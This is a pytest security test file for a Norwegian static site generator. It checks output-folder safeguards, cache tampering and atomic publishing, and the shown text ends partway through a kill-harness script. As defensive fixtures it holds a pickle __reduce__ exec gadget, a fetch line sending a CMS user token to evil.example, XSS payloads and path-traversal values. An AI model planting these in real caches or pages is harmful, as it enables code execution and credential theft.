"""Spec: safe at work. A typo never deletes a project, a cache never runs code, a killed build
never leaves a half site live, and nothing is published from outside the content folder.

docs/quality.md ("Safety") names the test that holds each promise.
"""

from __future__ import annotations

import datetime as dt
import json
import os
import pickle
import shutil
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path

import pytest
from conftest import EPOCH, ROOT, copy_of, tree_digest
from hypothesis import example, given, settings
from hypothesis import strategies as st

ENV = {**os.environ, "SOURCE_DATE_EPOCH": EPOCH}


def cli(*args: str, cwd: Path = ROOT, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "hub", *args], capture_output=True, text=True, cwd=cwd,
                          env=env or ENV, timeout=600)


def everything(folder: Path) -> dict[str, str]:
    """Every file and folder below ``folder`` (``.git`` included), to show nothing was touched."""
    return {**{p.relative_to(folder).as_posix() + "/": "" for p in folder.rglob("*") if p.is_dir()},
            **tree_digest(folder)}


def add_district(tree, slug: str, name: str) -> None:
    tree.write(f"districts/{slug}/district.yaml",
               (tree.root / "districts/nordby/district.yaml").read_text("utf-8").replace("Nordby", name))


# --- 1. the output folder -------------------------------------------------------------------------

@pytest.fixture
def project(tree):
    """A project folder as a web team keeps it: the content, a git repository, notes of their own."""
    root = tree.root.parent
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    (root / "notater.txt").write_text("Møtereferat\n", "utf-8")
    (root / "docs").mkdir()
    (root / "docs/index.html").write_text("<p>Vår egen side</p>\n", "utf-8")
    return root


@pytest.mark.parametrize(("out", "message"), [
    (".", "inneholder innholdsmappen"),  # the project itself: content, .git, everything
    ("content", "er innholdsmappen selv"),
    ("content/districts", "ligger inne i innholdsmappen"),
    ("docs", "ble ikke laget av knutepunkt"),  # a folder of the team's own, not a build
    ("notater.txt", "er ikke en mappe"),
])
@pytest.mark.parametrize("mode", ["full", "district"])
def test_build_refuses_an_out_that_publishing_would_destroy_and_touches_nothing(project, out, message, mode):
    before = everything(project)
    extra = ["--district", "nordby"] if mode == "district" else []
    r = cli("build", "--content", "content", "--out", out, "--no-search", *extra, cwd=project)
    assert r.returncode == 2, r.stdout + r.stderr
    assert message in r.stderr and "Traceback" not in r.stderr
    assert r.stderr.startswith("knutepunkt build: ") and r.stderr.count("\n") == 1
    assert everything(project) == before


def test_build_refuses_an_out_that_holds_the_current_directory(project):
    (project / "content/districts/nordby/services").mkdir(exist_ok=True)
    r = cli("build", "--content", "..", "--out", "../../..", cwd=project / "content/districts")
    assert r.returncode == 2 and "inneholder" in r.stderr
    r = cli("build", "--content", str(project / "content"), "--out", str(project / "docs/.."), cwd=project / "docs")
    assert r.returncode == 2 and "inneholder" in r.stderr


def test_an_empty_folder_or_an_earlier_build_may_be_replaced(project):
    (project / "site").mkdir()
    assert cli("build", "--content", "content", "--out", "site", "--no-search", cwd=project).returncode == 0
    (project / "content/districts/nordby/index.md").write_text("Velkommen.\n", "utf-8")
    r = cli("build", "--content", "content", "--out", "site", "--no-search", cwd=project)
    assert r.returncode == 0, r.stderr
    assert "Velkommen." in (project / "site/nordby/index.html").read_text("utf-8")


def test_region_build_refuses_the_folder_of_its_region_file_and_a_foreign_folder(project):
    region = project / "region"
    region.mkdir()
    (region / "region.yaml").write_text(
        "name: Region\nbase_url: https://region.example.no/\nmembers:\n  - {slug: test, source: ../site}\n", "utf-8")
    before = everything(project)
    for out, message in ((region, "inneholder regionfilen"), (project / "docs", "ble ikke laget av knutepunkt"),
                         (project, "inneholder regionfilen")):
        r = cli("region", "build", str(region / "region.yaml"), "--out", str(out), cwd=project)
        assert r.returncode == 2 and message in r.stderr and "Traceback" not in r.stderr, r.stderr
    assert everything(project) == before


def test_cms_writes_its_page_only_into_a_folder_of_its_own(project):
    before = everything(project)
    for out, message in ((".", "inneholder innholdsmappen"), ("docs", "mangler decap-cms.js")):
        r = cli("cms", "--backend", "local", "--out", out, cwd=project)
        assert r.returncode == 2 and message in r.stderr, r.stderr
    assert everything(project) == before


# --- 2. caches hold data, never code -------------------------------------------------------------

class Bomb:
    """Unpickling this writes the marker file: what a planted cache file would do."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (exec, (f"open({str(self.marker)!r}, 'w').write('ran')",))


def plant(cache: Path, marker: Path, content: Path, options: str, folder: str) -> list[Path]:
    """A malicious file under every name the tool reads back from ``cache``, as pickle and as JSON."""
    import hashlib
    from importlib.metadata import version

    from jinja2.bccache import bc_magic

    from hub.pipeline.incremental import district_key, inputs
    from hub.site import compounds
    from hub.theme import find_theme

    bomb = pickle.dumps(Bomb(marker))
    now = inputs(content, find_theme("default"), options=options)
    names = [f"{folder}/{slug}.{district_key(now, slug)[:24]}.{ext}" for slug in now.districts
             for ext in ("pickle", "json")]
    key = f"{version('wordfreq')}|{compounds.VOCABULARY_SIZE}|{','.join(sorted(compounds._NOT_PARTS))}"
    names += [f"vocabulary-{hashlib.sha256(key.encode()).hexdigest()[:16]}.{ext}" for ext in ("pickle", "json", "txt")]
    names.append(compounds.splits_name(now.code))
    names.append(f"holidays-{hashlib.sha256(version('holidays').encode()).hexdigest()[:16]}.json")
    names.append(f"{Path(folder).parent.as_posix()}/geometry.json")
    planted = [cache / n for n in names]
    for path in planted:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(bomb)
    templates = find_theme("default") / "templates"  # Jinja's bytecode: a pickled checksum, then marshal
    for t in templates.rglob("*.*"):
        name = t.relative_to(templates).as_posix()
        bucket = hashlib.sha1(name.encode() + f"|{os.path.normpath(t)}".encode()).hexdigest() + hashlib.sha1(
            t.read_bytes()).hexdigest()
        path = cache / f"jinja-{now.code[:16]}" / bucket
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(bc_magic + bomb)
        planted.append(path)
    return planted


def test_planted_cache_files_run_nothing_in_a_build_and_are_made_again(tree, tmp_path_factory):
    base, marker = tree.root.parent, tmp_path_factory.mktemp("marker") / "ran"
    add_district(tree, "sydby", "Sydby")
    clean = copy_of(base, tmp_path_factory, "clean")
    assert cli("build", "--out", "site", "--no-search", "-j", "1", cwd=clean).returncode == 0
    planted = plant(base / ".knutepunkt-cache", marker, tree.root, f"False|None|{_today()}|", "site/districts")
    assert {p.parent.name.split("-")[0] for p in planted} == {"districts", ".knutepunkt", "jinja", "site"}  # each kind
    r = cli("build", "--out", "site", "--no-search", "-j", "1", cwd=base)
    assert r.returncode == 0, r.stderr
    assert not marker.exists()
    assert tree_digest(base / "site") == tree_digest(clean / "site")
    assert not list((base / ".knutepunkt-cache/site/districts").glob("*.pickle"))  # stale names are pruned
    stored = sorted((base / ".knutepunkt-cache/site/districts").iterdir())
    assert [p.name.split(".")[0] for p in stored] == ["nordby", "sydby"]
    assert all(json.loads(p.read_bytes())["slug"] in ("nordby", "sydby") for p in stored)  # made again, as JSON


#: What a restored cache may hold in place of a file a build keeps there: nothing, a copy cut short
#: or garbled (never readable as text), a folder, or a link to a file elsewhere.
DAMAGES = ("deleted", "cut", "garbled", "folder", "link")


@pytest.fixture(scope="module")
def restored(tmp_path_factory):
    """A two-district project as a CI run restores it (content, output, ``.knutepunkt-cache/``), the
    edit the next run builds, and the files of a full build of that edit, all on the day of the test's
    builds (ENV's)."""
    with pytest.MonkeyPatch.context() as env:
        env.setenv("SOURCE_DATE_EPOCH", EPOCH)
        return _restored(tmp_path_factory)


def _restored(tmp_path_factory):
    from conftest import DISTRICT, EVENT, SERVICE, SITE, Tree

    from hub.pipeline.steps import build

    base = tmp_path_factory.mktemp("restored") / "project"
    tree = Tree(base / "content")
    tree.write("site.yaml", SITE)
    tree.write("districts/nordby/district.yaml", DISTRICT)
    tree.write("districts/nordby/services/helsestasjon.md", SERVICE)
    tree.write("districts/nordby/programme/babytreff.md", EVENT)
    add_district(tree, "sydby", "Sydby")
    tree.write("districts/sydby/services/helsestasjon.md", SERVICE)
    build(tree.root, base / "site")

    def edit(content: Path) -> None:
        service = content / "districts/nordby/services/helsestasjon.md"
        service.write_text(service.read_text("utf-8") + "\nNå også på lørdager.\n", "utf-8")

    full = copy_of(base, tmp_path_factory, "full")
    edit(full / "content")
    build(full / "content", full / "fresh", reuse=False)
    return base, edit, tree_digest(full / "fresh")


@settings(max_examples=20, deadline=None)
@given(data=st.data())
def test_a_restored_cache_damaged_any_way_gives_the_site_a_full_build_gives(restored, tmp_path_factory, data):
    """Whatever became of the files a build keeps in its cache (a CI cache restored in part, or from
    elsewhere), the next build, a process of its own as in CI, reads none of it as data: it makes
    those pieces again, and publishes the same bytes as a full build, nothing of a file a link leads to."""
    base, edit, expected = restored
    project = copy_of(base, tmp_path_factory, "damaged")
    try:
        secret = project.parent / "hemmelig.json"
        secret.write_bytes(b"\xff hemmelig")
        cache = project / ".knutepunkt-cache"
        kept = sorted(p for p in cache.rglob("*") if p.is_file() and not p.name.endswith(".lock")
                      and "spare" not in p.relative_to(cache).parts)
        damages = data.draw(st.lists(st.tuples(st.sampled_from(kept), st.sampled_from(DAMAGES),
                                               st.binary(max_size=40)), min_size=1, max_size=4))
        for path, damage, noise in damages:
            if not path.is_file() or path.is_symlink():
                continue
            text = path.read_bytes()
            path.unlink()
            if damage == "cut":
                path.write_bytes(b"\xff" + text[:len(text) // 2])
            elif damage == "garbled":
                path.write_bytes(b"\xff" + noise + text[::-1])
            elif damage == "folder":
                path.mkdir()
            elif damage == "link":
                path.symlink_to(secret)
        edit(project / "content")
        run = cli("build", "--out", "site", "-j", "1", cwd=project)
        assert run.returncode == 0 and "Traceback" not in run.stderr, run.stderr
        made = tree_digest(project / "site")
        assert made == expected, ([p for p in {*made, *expected} if made.get(p) != expected.get(p)], damages)
        assert secret.read_bytes() == b"\xff hemmelig"
    finally:
        shutil.rmtree(project.parent, ignore_errors=True)


def _today() -> str:
    from hub.time.clock import today_from_env

    return str(today_from_env())


def test_planted_cache_files_run_nothing_in_the_preview(tree, tmp_path):
    import urllib.request

    from test_coordinator import start_serve

    base, marker = tree.root.parent, tmp_path / "ran"
    plant(base / ".knutepunkt-cache", marker, tree.root, "preview", "preview")
    proc, page = start_serve(tree.root, "/nordby/")
    try:
        assert "Nordby" in page
        port = proc.args[proc.args.index("--port") + 1]
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/nordby/tjenester/helsestasjon/", timeout=30) as r:
            assert "Vaksiner og råd" in r.read().decode()
    finally:
        proc.terminate()
        proc.wait(timeout=10)
    assert not marker.exists()


JSON = st.recursive(st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=12),
                    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
                    max_leaves=12)
HOLIDAYS = st.dictionaries(st.integers(1900, 2100).map(str), st.dictionaries(
    st.dates(dt.date(1899, 1, 1), dt.date(2101, 12, 31)).map(dt.date.isoformat), st.text(max_size=12) | JSON,
    max_size=4), max_size=3)


@given(data=JSON | HOLIDAYS)
@settings(max_examples=300, deadline=None)
def test_kept_public_holidays_are_read_back_only_as_years_of_their_own_dates_and_names(data, tmp_path_factory):
    """The build keeps the library's holidays in its cache (the library's Norway takes 0.2 s a
    process); what it reads back is that shape exactly, or nothing, and never raises."""
    from hub.pipeline.incremental import Cache

    cache = Cache(tmp_path_factory.mktemp("out") / "site")
    cache.keep_holidays({}, {2026: {dt.date(2026, 5, 17): "Grunnlovsdag"}})
    assert cache.holidays() == {2026: {dt.date(2026, 5, 17): "Grunnlovsdag"}}
    (file,) = cache.root.glob("holidays-*.json")
    file.write_text(json.dumps(data), "utf-8")
    read = cache.holidays()
    assert read == {} or read == {int(y): {dt.date.fromisoformat(d): n for d, n in days.items()}
                                  for y, days in data.items()}
    assert all(type(n) is str and d.year == y for y, days in read.items() for d, n in days.items())


def test_the_holidays_kept_for_another_version_of_the_library_go_when_this_one_keeps_its_own(tmp_path):
    from hub.pipeline.incremental import Cache

    cache = Cache(tmp_path / "site")
    cache.root.mkdir(parents=True)
    (cache.root / "holidays-0123456789abcdef.json").write_text('{"2026": {}}', "utf-8")  # another version's
    (cache.root / "holidays-planted.json").mkdir()
    cache.keep_holidays({}, {2026: {dt.date(2026, 5, 17): "Grunnlovsdag"}})
    (kept,) = cache.root.glob("holidays-*.json")
    assert kept == cache._holidays and cache.holidays() == {2026: {dt.date(2026, 5, 17): "Grunnlovsdag"}}


COORDINATE = (st.floats() | st.integers(-400, 400) | st.sampled_from([10.2, 59.74, "10.2", None, True, [10.2], 10**400])
              | st.floats(10.19, 10.23))
POINT = st.lists(COORDINATE, max_size=4) | st.sampled_from([[10.2, 59.74], [10.21, 59.74], [10.21, 59.75]]) \
    | st.tuples(st.floats(10.19, 10.23), st.floats(59.73, 59.76)).map(list)
RING = st.lists(POINT, max_size=6).flatmap(lambda r: st.sampled_from([r, r + r[:1]]))
AREA = st.fixed_dictionaries({"type": st.sampled_from(["Polygon", "MultiPolygon", "Point", "polygon"]),
                              "coordinates": st.lists(RING, max_size=3) | st.lists(st.lists(RING, max_size=2), max_size=2)
                              | JSON}) | JSON
#: Closed rings of points near Drammen's hubs, crossing themselves or not, or with a point that is not
#: longitude and latitude (what a map could be asked to draw).
NEAR = st.tuples(st.floats(10.19, 10.23), st.floats(59.73, 59.76)).map(list) | st.sampled_from([[59.74, 10.2], [200, 95]])
NEAR_AREA = st.lists(NEAR, min_size=3, max_size=6).map(lambda r: {"type": "Polygon", "coordinates": [r + r[:1]]})


@given(data=JSON | st.fixed_dictionaries({"code": st.just("kode"), "valid": st.lists(st.text(max_size=8) | JSON),
                                           "far": st.dictionaries(st.text(max_size=8), JSON | st.tuples(
                                               st.text(max_size=8), st.floats() | st.integers()))}))
@example(data={"code": "kode", "valid": [], "far": {"plan:x": ["from:y", 10**400]}})
@example(data={"code": "kode", "valid": [], "far": {"plan:x": ["from:y", 999.0]}})
@settings(max_examples=300, deadline=None)
def test_kept_geometry_checks_are_read_back_only_in_their_shape(data, tmp_path_factory):
    """The build keeps which areas it checked and how far the plan areas lie (hub.content.geo); what it
    reads back is taken in that shape (names, and distances within those the check lets through:
    a plan area farther away stops the build, so none is kept) or not at all, and never raises."""
    from types import SimpleNamespace

    from hub.content import geo
    from hub.pipeline.incremental import Cache

    cache, now = Cache(tmp_path_factory.mktemp("out") / "site"), SimpleNamespace(code="kode")
    cache.folder.mkdir(parents=True)
    cache.keep_geometry_checks(now, {}, {"valid": [], "far": {}})  # type: ignore[arg-type]  # its code alone is read
    code = json.loads((cache.folder / "geometry.json").read_text("utf-8"))["code"]
    (cache.folder / "geometry.json").write_text(json.dumps({**data, "code": code} if isinstance(data, dict) and
                                                           "code" in data else data), "utf-8")
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(geo, "_VALID", set())
        mp.setattr(geo, "_FAR", {})
        geo.know(cache.geometry_checks(now))  # type: ignore[arg-type]
        assert all(type(k) is str for k in geo._VALID)
        assert all(type(w) is str and type(km) is float and 0 <= km <= geo.FAR_KM for w, km in geo._FAR.values())


@given(area=AREA, trusted=st.booleans())
@settings(max_examples=500, deadline=None)
def test_a_false_kept_check_can_pass_only_a_plan_area_that_can_be_drawn_and_measured(area, trusted):
    """A cache may say any plan area passed its check. It is taken at its word only for closed rings of
    [longitude, latitude] pairs (a self-crossing one, say, goes through), which the pages read as
    they are (the JSON-LD's polygon); where a map or the distance check reads it with shapely, an area
    that is not valid stops the build with a content error, never with any other."""
    from hub.content import geo
    from hub.content.errors import ContentErrors
    from hub.site import districtmap

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(geo, "_FAR", {})
        mp.setattr(geo, "_VALID", set())
        checked = geo.polygon_problem(area)
        mp.setattr(geo, "_VALID", set())
        if trusted:
            geo.know(geo.known([], [area]))  # the cache says this very area passed
        passed = geo.polygon_problem(area)
        if passed == checked:
            return
        assert trusted and passed is None
        rings = area["coordinates"] if area["type"] == "Polygon" else [r for p in area["coordinates"] for r in p]
        assert all(-180 <= lon <= 180 and -90 <= lat <= 90 for ring in rings for lon, lat in ring)
        for read in (lambda: geo.km_outside({}, [(59.74, 10.2)])(area),
                     lambda: districtmap.draw([("nordby", 59.74, 10.2)], {}, area, detail=True)):
            try:
                read()
            except ContentErrors as errors:
                assert [(e.field, e.message) for e in errors.errors] == [
                    ("area", "ugyldig flate; bygg med --full for å se hva som er galt")]


@given(areas=st.lists(NEAR_AREA, min_size=1, max_size=3))
@example(areas=[{"type": "Polygon", "coordinates": [[[59.74, 10.2], [10.190000000000001, 59.732421875], [10.19, 59.732421875],
                                                    [59.74, 10.2]]]}])  # valid: a sliver coverage_simplify fails on
@settings(max_examples=200, deadline=None)
def test_district_areas_a_cache_vouches_for_are_drawn_and_measured_or_stop_the_build_with_a_content_error(areas):
    """Any district areas the cache says passed (rings near the hubs, crossing themselves or not): the
    district map and the distance of a plan area from them are made, or the build stops with a
    content error naming districts.geojson and the district, never with any other."""
    from hub.content import geo
    from hub.content.errors import ContentErrors, ErrorLog
    from hub.site import districtmap

    slugs = [f"d{i}" for i in range(len(areas))]
    text = json.dumps({"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"district": s}, "geometry": a} for s, a in zip(slugs, areas, strict=True)]})
    with pytest.MonkeyPatch.context() as mp, tempfile.TemporaryDirectory() as folder:
        mp.setattr(geo, "_FAR", {})
        mp.setattr(geo, "_VALID", set())
        geo.know(geo.known(areas, []))
        path = Path(folder) / "districts.geojson"
        path.write_text(text, "utf-8")
        log = ErrorLog(Path(folder))
        found = geo.read_areas(path, set(slugs), log)
        assert not log.errors and list(found) == slugs  # taken at the cache's word
        plan = {"type": "Polygon", "coordinates": [[[10.2, 59.74], [10.21, 59.74], [10.21, 59.75], [10.2, 59.74]]]}
        for read in (lambda: geo.km_outside(found, [(59.74, 10.2)])(plan),
                     lambda: districtmap.draw([(s, 59.74, 10.2) for s in slugs], found),
                     lambda: districtmap.draw([(s, 59.74, 10.2) for s in slugs], found, plan, detail=True)):
            try:
                read()
            except ContentErrors as errors:
                assert {e.path for e in errors.errors} == {"districts.geojson"}
                assert {e.field for e in errors.errors} <= set(slugs)


def test_a_cache_that_vouches_for_a_self_crossing_area_stops_the_build_with_a_content_error(tree):
    """The one way past a check a false entry opens (above): a self-crossing district area in the
    content, which the cache says passed. The build stops where a map or the distance of a plan area
    reads it, as for any content error and without a traceback; a full build says what is wrong."""
    from conftest import DISTRICT

    from hub.content import geo

    def areas(ring: list[list[float]]) -> str:
        return json.dumps({"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {
            "district": slug}, "geometry": {"type": "Polygon", "coordinates": [r]}} for slug, r in (
                ("nordby", ring), ("sorby", [[10.22, 59.73], [10.25, 59.73], [10.25, 59.75], [10.22, 59.73]]))]})

    bow = [[10.19, 59.73], [10.22, 59.75], [10.22, 59.73], [10.19, 59.75], [10.19, 59.73]]
    tree.write("districts/sorby/district.yaml", DISTRICT.replace("Nordby", "Sørby"))
    tree.write("districts.geojson", areas([[10.19, 59.73], [10.22, 59.73], [10.22, 59.75], [10.19, 59.73]]))
    tree.write("planer/torget.md", "---\ntitle: Torget\nsummary: Nytt torg.\nplan_id: 3000-2026001\ntype: 35\n"
               "status: 2\ndistricts: [nordby]\nsteps:\n  - step: oppstart\n    date: 2026-05-04\narea: {type: Polygon, "
               "coordinates: [[[10.200, 59.740], [10.204, 59.740], [10.204, 59.742], [10.200, 59.740]]]}\n---\n")
    base = tree.root.parent
    assert cli("build", "--out", "site", "--no-search", cwd=base).returncode == 0
    before = tree_digest(base / "site")
    tree.write("districts.geojson", areas(bow))
    kept = base / ".knutepunkt-cache/site/geometry.json"
    checks = json.loads(kept.read_text("utf-8"))
    checks["valid"] += geo.known([{"type": "Polygon", "coordinates": [bow]}], [])["valid"]
    kept.write_text(json.dumps(checks), "utf-8")
    r = cli("build", "--out", "site", "--no-search", cwd=base)
    assert r.returncode == 1 and "Traceback" not in r.stderr, r.stderr
    assert "districts.geojson: nordby: ugyldig flate; bygg med --full for å se hva som er galt" in r.stderr, r.stderr
    assert tree_digest(base / "site") == before  # nothing published
    full = cli("build", "--out", "site", "--no-search", "--full", cwd=base)
    assert full.returncode == 1 and "districts.geojson:1: features[0].geometry: ugyldig flate: " in full.stderr


def test_a_build_keeps_the_public_holidays_it_asked_the_library_for(tree, tmp_path):
    from hub.pipeline.incremental import Cache
    from hub.time.hours import _public_holidays

    assert cli("build", "--out", "site", "--no-search", "-j", "1", cwd=tree.root.parent).returncode == 0
    kept = Cache(tree.root.parent / "site").holidays()
    this_year = int(_today()[:4])
    assert this_year in kept and kept == {y: _public_holidays(y) for y in kept}


def test_a_stored_district_is_read_back_only_if_the_loader_could_have_made_it(tree, tmp_path):
    """A stored district is plain data that passed the content models, yet the build copies its plans'
    document files and shows its HTML as they are: a file that names anything outside the district's
    folder, or holds HTML the sanitiser would change, is not used (the folder is parsed again)."""
    from test_plans import HUB_AT, PLAN

    from hub.pipeline.steps import build

    d = tree.root / "districts/nordby/district.yaml"
    d.write_text(d.read_text("utf-8").replace("hub:\n", HUB_AT), "utf-8")
    tree.write("districts/nordby/planer/torget.md", PLAN)
    tree.write("districts/nordby/planer/torget/plankart.pdf", b"%PDF-1.4\n" + b"x" * 2000)
    (tmp_path / "hemmelig.pdf").write_bytes(b"not for the web")
    out = tmp_path / "site"
    build(tree.root, out, search=False)
    clean = tree_digest(out)
    (stored,) = (tmp_path / ".knutepunkt-cache/site/districts").glob("nordby.*.json")
    original = json.loads(stored.read_bytes())
    plankart = "content/districts/nordby/planer/torget/plankart.pdf"
    assert original["plans"][0]["files"][0]["source"] == plankart  # what the tampering below changes

    def tampered(change) -> dict:
        district = json.loads(json.dumps(original))
        change(district)
        return district

    plan = lambda d: d["plans"][0]  # noqa: E731
    for district in (
        tampered(lambda d: plan(d)["files"][0].update(source="hemmelig.pdf")),
        tampered(lambda d: plan(d)["files"][0].update(source="content/districts/nordby/../../hemmelig.pdf")),
        tampered(lambda d: plan(d).update(path="hemmelig.md")),
        tampered(lambda d: d.update(path="content")),
        tampered(lambda d: d["services"][0]["body"].update(html="<p>Hei</p><script>alert(1)</script>")),
        tampered(lambda d: d.update(html='<p><a href="javascript:alert(1)">Hei</a></p>')),
    ):
        stored.write_text(json.dumps(district), "utf-8")
        shutil.rmtree(out)
        build(tree.root, out, search=False)
        assert tree_digest(out) == clean, district
        assert json.loads(stored.read_bytes()) == original  # parsed again, and stored as the loader made it
    # The same file untouched is read back (the checks refuse only what the loader would not make).
    stored.write_text(json.dumps(tampered(lambda d: d.update(html="<p>Lest fra lageret.</p>"))), "utf-8")
    shutil.rmtree(out)
    build(tree.root, out, search=False)
    assert "Lest fra lageret." in (out / "nordby/index.html").read_text("utf-8")
    # A link in the plan's folder, named by a planted district: the loader refuses links, and a district
    # read back is not scanned for them, so the stored one must not be read back (the folder is parsed).
    from hub.content.errors import ContentErrors
    from hub.pipeline.incremental import ParsedDistricts, inputs
    from hub.theme import find_theme

    (tree.root / "districts/nordby/planer/torget/lenke.pdf").symlink_to(tmp_path / "hemmelig.pdf")
    linked = tampered(lambda d: (
        plan(d)["meta"]["documents"].append({**plan(d)["meta"]["documents"][0], "file": "lenke.pdf"}),
        plan(d)["files"].append({**plan(d)["files"][0], "name": "lenke.pdf",
                                 "source": plankart.replace("plankart", "lenke")})))
    now = inputs(tree.root, find_theme("default"), options="")
    ParsedDistricts(stored.parent, now)._path("nordby").write_text(json.dumps(linked), "utf-8")
    before = tree_digest(out)
    with pytest.raises(ContentErrors) as refused:
        build(tree.root, out, search=False)
    assert [e.path for e in refused.value.errors] == ["content/districts/nordby/planer/torget/lenke.pdf"]
    assert tree_digest(out) == before


def test_compiled_templates_of_versions_not_used_for_a_month_are_deleted(tree, tmp_path):
    """Each code version compiles into a folder of its own in the user's cache: a build marks its own as
    used and deletes the folders no build has used for 30 days, and no other file or link there."""
    base, own = tree.root.parent, tmp_path / "xdg"
    cache = own / "knutepunkt"
    cache.mkdir(parents=True, mode=0o700)
    old, recent, other, elsewhere = (cache / "jinja-0000000000000old", cache / "jinja-000000000recent",
                                     cache / "vocabulary-old", tmp_path / "elsewhere")
    for folder in (old, recent, other, elsewhere):
        folder.mkdir()
        (folder / "code").write_bytes(b"x")
    (cache / "jinja-000000000000link").symlink_to(elsewhere)
    month = time.time() - 31 * 86400
    for path in (old, other, elsewhere, cache / "jinja-000000000000link"):
        os.utime(path, (month, month), follow_symlinks=False)
    os.utime(recent, (time.time() - 29 * 86400,) * 2)
    assert cli("build", "--out", "site", "--no-search", "-j", "1", cwd=base,
               env={**ENV, "XDG_CACHE_HOME": str(own)}).returncode == 0
    left = sorted(p.name for p in cache.iterdir())
    assert "jinja-0000000000000old" not in left and {"jinja-000000000recent", "vocabulary-old",
                                                     "jinja-000000000000link"} <= set(left)
    (mine,) = set(left) - {"jinja-000000000recent", "vocabulary-old", "jinja-000000000000link"}
    assert mine.startswith("jinja-") and time.time() - (cache / mine).stat().st_mtime < 600
    assert (elsewhere / "code").exists()


def test_compiled_templates_are_kept_only_in_the_users_own_cache_folder(tree, tmp_path):
    """Jinja's bytecode runs when read: kept in ~/.cache/knutepunkt (0700), never in the project, and a
    cache folder others may write to is not read at all."""
    base, own, marker = tree.root.parent, tmp_path / "xdg", tmp_path / "ran"
    env = {**ENV, "XDG_CACHE_HOME": str(own)}
    assert cli("build", "--out", "site", "--no-search", "-j", "1", cwd=base, env=env).returncode == 0
    kept = list((own / "knutepunkt").glob("jinja-*/*"))
    assert kept and not list((base / ".knutepunkt-cache").glob("jinja*"))
    assert (own / "knutepunkt").stat().st_mode & 0o777 == 0o700
    for path in kept:  # what a process of someone else's could plant, once the folder lets them
        path.write_bytes(path.read_bytes()[:len(__import__("jinja2.bccache").bccache.bc_magic)]
                         + pickle.dumps(Bomb(marker)))
    (own / "knutepunkt").chmod(0o777)
    (tree.root / "districts/nordby/index.md").write_text("Velkommen.\n", "utf-8")
    assert cli("build", "--out", "site", "--no-search", "-j", "1", cwd=base, env=env).returncode == 0
    assert not marker.exists()
    assert "Velkommen." in (base / "site/nordby/index.html").read_text("utf-8")


def test_a_planted_decap_package_is_refused_and_fetched_again(tree, tmp_path):
    import io
    import tarfile

    from hub.editor.admin import DECAP_VERSION

    base = tree.root.parent
    cache = base / ".knutepunkt-cache"
    evil = b"fetch('https://evil.example/' + localStorage.getItem('decap-cms-user'));\n"
    unpacked = cache / f"decap-cms-{DECAP_VERSION}"  # where an earlier version kept it unpacked
    unpacked.mkdir(parents=True)
    (unpacked / "decap-cms.js").write_bytes(evil)
    with tarfile.open(cache / f"decap-cms-{DECAP_VERSION}.tgz", "w:gz") as tar:
        info = tarfile.TarInfo("package/dist/decap-cms.js")
        info.size = len(evil)
        tar.addfile(info, io.BytesIO(evil))
    r = cli("cms", "--backend", "local", "--content", "content", cwd=base)
    assert r.returncode == 0, r.stderr
    script = (base / "admin/decap-cms.js").read_bytes()
    assert b"evil.example" not in script and len(script) > 1_000_000


# --- 6. the preview never stops following the files ------------------------------------------------

def eventually(then, seconds: float = 30) -> None:
    import time

    end = time.monotonic() + seconds
    while not then():
        assert time.monotonic() < end, "did not happen"
        time.sleep(0.05)


def test_the_preview_shows_an_unexpected_error_and_reloads_after_the_next_save(tree, monkeypatch):
    from hub.site import preview as module

    preview = module.Preview(tree.root)
    observer = preview.watch()
    try:
        real, calls = module.load, []

        def load_once_broken(*args, **kwargs):
            calls.append(args)
            if len(calls) == 1:  # a bug anywhere below the loader, once
                raise RecursionError("maximum recursion depth exceeded")
            return real(*args, **kwargs)

        monkeypatch.setattr(module, "load", load_once_broken)
        client = preview.app.test_client()
        service = tree.root / "districts/nordby/services/helsestasjon.md"
        before = preview.state.version
        service.write_text(service.read_text("utf-8").replace("Vaksiner og råd", "Vaksiner, veiing og råd"), "utf-8")
        eventually(lambda: preview.state.version > before)
        page = client.get("/nordby/tjenester/helsestasjon/")
        assert page.status_code == 500
        assert "uventet feil ved innlesing (RecursionError" in page.get_data(as_text=True)
        shown = preview.state.version
        service.write_text(service.read_text("utf-8").replace("veiing og råd", "veiing og gode råd"), "utf-8")
        eventually(lambda: preview.state.version > shown and not preview.state.errors)
        page = client.get("/nordby/tjenester/helsestasjon/")
        assert page.status_code == 200 and "Vaksiner, veiing og gode råd" in page.get_data(as_text=True)
    finally:
        observer.stop()
        preview.close()


# --- 5. publishing is atomic ---------------------------------------------------------------------

#: Runs the command given after it, and is SIGKILLed at the KILL_AT-th call that changes the live output,
#: what lies beside it or its spare copy (rename, link, remove, exchange); with KILL_AT=0 it only lists them.
KILLER = textwrap.dedent('''
    import os, runpy, shutil, signal, sys, threading
    out = os.path.abspath(os.environ["OUT"])
    kill_at, log = int(os.environ["KILL_AT"]), open(os.environ["KILL_LOG"], "a")
    calls = 0
    # The search bundles are indexed in two threads, each lending fragments with os.link. Without a
    # lock a thread compared the count with KILL_AT after writing the log, which lets the other thread
    # count in between: the call to be killed at was passed over and the run went on to the end (seen
    # once in CI: "assert 0 == -9" in the full build's case, whose calls in threads are those links).
    counting = threading.Lock()

    spare = os.path.join(os.path.dirname(out), ".knutepunkt-cache", os.path.basename(out), "spare")

    def touches(arg):
        try:
            p = os.path.abspath(os.fsdecode(arg))
        except TypeError:
            return False
        return any(p == where or p.startswith(where + os.sep) for where in (out, spare)) or os.path.basename(
            p).startswith("." + os.path.basename(out) + ".")

    def hooked(name, real):
        def call(*args, **kwargs):
            global calls
            if any(touches(a) for a in args[:2]):
                with counting:
                    calls += 1
                    log.write(name + "\\n")
                    log.flush()
                    if calls == kill_at:
                        os.kill(os.getpid(), signal.SIGKILL)
            return real(*args, **kwargs)
        return call

    for name in ("rename", "replace", "link"):
        setattr(os, name, hooked(name, getattr(os, name)))
    shutil.rmtree = hooked("rmtree", shutil.rmtree)
    try:
